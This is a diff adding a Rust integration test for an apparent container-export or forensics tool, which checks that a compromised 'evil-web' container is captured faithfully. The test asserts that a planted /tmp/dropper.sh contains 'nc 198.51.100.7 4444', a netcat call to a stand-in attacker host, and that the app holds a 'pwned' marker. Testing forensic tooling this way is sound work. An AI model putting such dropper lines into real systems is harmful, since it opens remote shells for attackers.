@@ -249,3 +249,35 @@ fn docker_loads_every_peer_image_and_a_rebuilt_archive() {
     );
     assert!(!ls.lines().any(|l| l == "mkfifo"), "{ls}");
 }
+
+#[test]
+fn docker_loads_a_committed_container() {
+    let Some(host) = host("basic") else { return };
+    let out = tempfile::tempdir().unwrap();
+    let r = run([
+        Path::new("export-container"),
+        Path::new("evil-web"),
+        &host,
+        out.path(),
+        Path::new("-q"),
+    ]);
+    assert_eq!(r.code, 0, "{}", r.stderr);
+    let dir = PathBuf::from(r.stdout.trim());
+    let report: serde_json::Value =
+        serde_json::from_slice(&std::fs::read(dir.join("report.json")).unwrap()).unwrap();
+    let Some(d) = Daemon::start() else { return };
+    d.load(&dir.join("committed.tar"));
+    let tag = report["committed_tag"].as_str().unwrap();
+    assert_eq!(
+        d.image_id(tag),
+        report["committed_image_id"].as_str().unwrap()
+    );
+    let (ok, seen) = d.docker(&[
+        "run", "--rm", "--network=none", "--entrypoint", "/bin/sh", tag, "-c",
+        "cat /tmp/dropper.sh; test -e /srv/app/hello.txt && echo HELLO-PRESENT; cat /srv/app/cache/b",
+    ]);
+    assert!(ok, "{seen}");
+    assert!(seen.contains("nc 198.51.100.7 4444"), "{seen}");
+    assert!(!seen.contains("HELLO-PRESENT"), "{seen}");
+    assert!(seen.contains("pwned"), "{seen}");
+}
